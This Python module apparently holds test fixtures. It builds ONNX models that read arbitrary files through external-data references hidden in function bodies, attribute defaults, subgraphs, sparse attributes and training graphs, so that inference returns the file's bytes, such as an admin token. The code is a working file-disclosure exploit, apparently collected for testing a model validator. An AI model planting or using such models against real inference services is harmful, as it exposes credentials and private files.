"""ONNX models that keep a tensor's bytes in a file, each in a place a walk of ``model.graph``
alone does not see: a model-local function's Constant, a function's attribute
default, a subgraph inside a function, a sparse tensor in an attribute, a training graph.

Each model reads ``LENGTH`` bytes of the file ``location`` as UINT8 and adds them to its input
``x`` (FP32 [LENGTH]), so where ONNX Runtime resolves the location, the output *is* the file's
bytes: the attack of the probe, which read a controller's admin token this way.
"""

from __future__ import annotations

from collections.abc import Callable

import onnx
from onnx import TensorProto, helper

LENGTH = 16
OPSET = 17
DOMAIN = "evil"


def external(location: str, name: str = "leak") -> TensorProto:
    """A UINT8 [LENGTH] tensor whose bytes are in the file ``location``."""
    tensor = TensorProto(name=name, data_type=TensorProto.UINT8, dims=[LENGTH])
    tensor.data_location = TensorProto.EXTERNAL
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", location
    return tensor


def _model(
    nodes: list[onnx.NodeProto],
    functions: list[onnx.FunctionProto] = (),  # type: ignore[assignment]
) -> onnx.ModelProto:
    cast_add = [
        helper.make_node("Cast", ["leaked"], ["as_float"], to=TensorProto.FLOAT),
        helper.make_node("Add", ["x", "as_float"], ["y"]),
    ]
    graph = helper.make_graph(
        [*nodes, *cast_add],
        "hidden",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [LENGTH])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [LENGTH])],
    )
    opsets = [helper.make_opsetid("", OPSET)]
    if functions:
        opsets.append(helper.make_opsetid(DOMAIN, 1))
    model = helper.make_model(graph, opset_imports=opsets, functions=list(functions))
    model.ir_version = 8
    return model


def _function(name: str, body: list[onnx.NodeProto], **extra: object) -> onnx.FunctionProto:
    return helper.make_function(
        DOMAIN, name, [], ["out"], body, [helper.make_opsetid("", OPSET)], **extra
    )


def in_function(location: str) -> onnx.ModelProto:
    """A function's body holds ``Constant(value=<external>)``: the probe's model."""
    body = [helper.make_node("Constant", [], ["out"], value=external(location))]
    call = helper.make_node("Leak", [], ["leaked"], domain=DOMAIN)
    return _model([call], [_function("Leak", body)])


def in_function_default(location: str) -> onnx.ModelProto:
    """A function's attribute default is the external tensor; its Constant refers to it."""
    constant = helper.make_node("Constant", [], ["out"])
    reference = constant.attribute.add()
    reference.name, reference.ref_attr_name = "value", "payload"
    reference.type = onnx.AttributeProto.TENSOR
    default = helper.make_attribute("payload", external(location))
    function = _function("Leak", [constant], attributes=[])
    function.attribute_proto.append(default)
    call = helper.make_node("Leak", [], ["leaked"], domain=DOMAIN)
    return _model([call], [function])


def in_function_subgraph(location: str) -> onnx.ModelProto:
    """An If inside a function returns the external constant from its then-branch."""
    branch = helper.make_graph(
        [helper.make_node("Constant", [], ["branch_out"], value=external(location))],
        "then",
        [],
        [helper.make_tensor_value_info("branch_out", TensorProto.UINT8, [LENGTH])],
    )
    body = [
        helper.make_node("Constant", [], ["yes"], value=helper.make_tensor("t", 9, [], [True])),
        helper.make_node("If", ["yes"], ["out"], then_branch=branch, else_branch=branch),
    ]
    call = helper.make_node("Leak", [], ["leaked"], domain=DOMAIN)
    return _model([call], [_function("Leak", body)])


def in_sparse_attribute(location: str) -> onnx.ModelProto:
    """``Constant(sparse_value=...)`` in the main graph, its values kept in the file."""
    values = external(location, "values")
    indices = helper.make_tensor("indices", TensorProto.INT64, [LENGTH], list(range(LENGTH)))
    sparse = helper.make_sparse_tensor(values, indices, [LENGTH])
    constant = helper.make_node("Constant", [], ["leaked"], sparse_value=sparse)
    return _model([constant])


def in_training_graph(location: str) -> onnx.ModelProto:
    """A training-info initialization graph whose initializer is kept in the file."""
    model = _model([helper.make_node("Constant", [], ["leaked"], value=_zeros())])
    init = helper.make_graph(
        [], "init", [], [helper.make_tensor_value_info("leak", TensorProto.UINT8, [LENGTH])]
    )
    init.initializer.append(external(location))
    info = model.training_info.add()
    info.initialization.CopyFrom(init)
    info.algorithm.CopyFrom(helper.make_graph([], "algorithm", [], []))
    return model


def _zeros() -> TensorProto:
    return helper.make_tensor("zeros", TensorProto.UINT8, [LENGTH], [0] * LENGTH)


HIDING_PLACES: dict[str, Callable[[str], onnx.ModelProto]] = {
    "function": in_function,
    "function attribute default": in_function_default,
    "subgraph in a function": in_function_subgraph,
    "sparse attribute": in_sparse_attribute,
    "training graph": in_training_graph,
}
"""Every place, by name, with the model that hides a file's bytes there."""
